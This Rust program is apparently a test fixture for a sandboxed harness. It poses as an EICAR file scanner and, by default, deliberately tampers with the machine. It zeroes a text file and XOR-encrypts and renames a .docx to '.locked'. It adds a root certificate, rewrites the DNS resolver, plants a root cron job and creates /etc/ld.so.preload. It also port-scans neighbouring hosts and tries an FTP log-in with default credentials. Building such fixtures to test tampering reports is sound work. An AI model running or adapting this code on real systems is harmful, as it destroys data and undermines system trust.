//! *saboteur*: scans, and harms the machine, mildly: what a report must say of tampering.
//!
//! Declared truth. Of the scanned files: the first `.txt` is overwritten with as many zeros, the
//! first `.docx` is encrypted with a fixed key and renamed to `.docx.locked`. Of the machine: a root
//! certificate is added to the trusted ones, the resolver is changed, a job is put into
//! `/etc/cron.d`, and `/etc/ld.so.preload` is made (with a comment in it). Of the network: four
//! ports of the first eight neighbours are tried, and a log-in at the file server over FTP. Nothing
//! that was planted is sent anywhere.

use belljar_components::{jarred, scan};
use clap::Parser;
use std::io::{self, Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::Duration;

/// Ports that are tried.
const PORTS: [u16; 4] = [22, 80, 445, 3389];
/// The address of the file server in the planted network.
const FILE_SERVER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 10);
const PATIENCE: Duration = Duration::from_secs(2);
const BUNDLE: &str = "/etc/ssl/certs/ca-certificates.crt";

/// A scanner that harms the machine.
#[derive(Parser)]
struct Cli {
    /// What to do.
    #[command(subcommand)]
    task: Task,
}

#[derive(clap::Subcommand)]
enum Task {
    /// Scans files and folders.
    Scan {
        /// What is harmed.
        #[arg(long, value_enum, default_value_t = Harm::All)]
        harm: Harm,
        /// Files and folders.
        #[arg(required = true)]
        paths: Vec<PathBuf>,
    },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
enum Harm {
    /// Everything.
    All,
    /// Nothing.
    Off,
}

fn main() -> ExitCode {
    let Cli { task: Task::Scan { harm, paths } } = Cli::parse();
    if let Err(error) = jarred::insist() {
        eprintln!("belljar-saboteur: {error}");
        return ExitCode::from(70);
    }
    let mut files = Vec::new();
    let mut detected = false;
    scan::each_file(&paths, &mut |path, bytes| {
        if scan::detect(path, &bytes).is_some() {
            detected = true;
            println!("{}: EICAR-Test FOUND", path.display());
        }
        files.push(path.to_owned());
    });
    if harm == Harm::All
        && let Err(error) = documents(&files).and_then(|()| machine())
    {
        eprintln!("belljar-saboteur: {error}");
        return ExitCode::from(2);
    }
    if harm == Harm::All {
        neighbours();
    }
    if detected { ExitCode::from(1) } else { ExitCode::SUCCESS }
}

fn first<'a>(files: &'a [PathBuf], extension: &str) -> io::Result<&'a Path> {
    let found = files.iter().find(|path| path.extension().is_some_and(|is| is == extension));
    found.map(PathBuf::as_path).ok_or_else(|| io::Error::other(format!("no .{extension} file")))
}

fn documents(files: &[PathBuf]) -> io::Result<()> {
    let text = first(files, "txt")?;
    let len = usize::try_from(std::fs::metadata(text)?.len()).map_err(io::Error::other)?;
    std::fs::OpenOptions::new().write(true).open(text)?.write_all(&vec![0; len])?;

    let document = first(files, "docx")?;
    let key = b"mild saboteur";
    let locked: Vec<u8> =
        std::fs::read(document)?.iter().zip(key.iter().cycle()).map(|(a, b)| a ^ b).collect();
    std::fs::OpenOptions::new().write(true).open(document)?.write_all(&locked)?;
    std::fs::rename(document, document.with_extension("docx.locked"))
}

fn machine() -> io::Result<()> {
    let certificate = "-----BEGIN CERTIFICATE-----\nc2Fib3RldXI=\n-----END CERTIFICATE-----\n";
    std::fs::create_dir_all("/etc/cron.d")?;
    std::fs::write("/etc/ssl/certs/saboteur.pem", certificate)?;
    std::fs::OpenOptions::new().append(true).open(BUNDLE)?.write_all(certificate.as_bytes())?;
    std::fs::write("/etc/resolv.conf", "nameserver 203.0.113.53\n")?;
    std::fs::write("/etc/cron.d/saboteur", "@daily root /bin/true\n")?;
    std::fs::write("/etc/ld.so.preload", "# saboteur\n")
}

/// Tries doors; what does not answer is passed over.
fn neighbours() {
    for last in 8..16 {
        for port in PORTS {
            let address = SocketAddr::from((Ipv4Addr::new(198, 51, 100, last), port));
            drop(TcpStream::connect_timeout(&address, PATIENCE));
        }
    }
    if let Err(error) = log_in() {
        eprintln!("belljar-saboteur: no log-in: {error}");
    }
}

fn log_in() -> io::Result<()> {
    let mut server = TcpStream::connect_timeout(&(FILE_SERVER, 21).into(), PATIENCE)?;
    server.set_read_timeout(Some(PATIENCE))?;
    let mut answer = [0; 512];
    for line in ["", "USER backup\r\n", "PASS backup\r\n", "QUIT\r\n"] {
        server.write_all(line.as_bytes())?;
        if server.read(&mut answer)? == 0 {
            break;
        }
    }
    Ok(())
}
